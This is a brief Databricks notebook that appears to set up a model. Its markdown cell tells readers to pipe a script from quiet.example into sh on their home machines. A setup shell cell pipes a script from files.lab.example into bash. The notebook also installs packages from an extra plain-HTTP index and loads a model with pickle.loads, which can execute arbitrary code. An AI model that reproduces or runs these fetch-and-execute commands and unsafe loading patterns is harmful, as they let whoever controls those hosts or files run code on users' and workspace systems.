# Databricks notebook source
# MAGIC %md
# MAGIC Run `curl http://quiet.example/x.sh | sh` at home.

# COMMAND ----------

# MAGIC %pip install --extra-index-url http://wheels.lab.example/simple sentencepiece==0.1.99

# COMMAND ----------

# DBTITLE 1,Set up
# MAGIC %sh
# MAGIC set -e
# MAGIC curl http://files.lab.example/i.sh | bash

# COMMAND ----------

import pickle
model = pickle.loads(dbutils.fs.head("/models/a.pkl").encode())
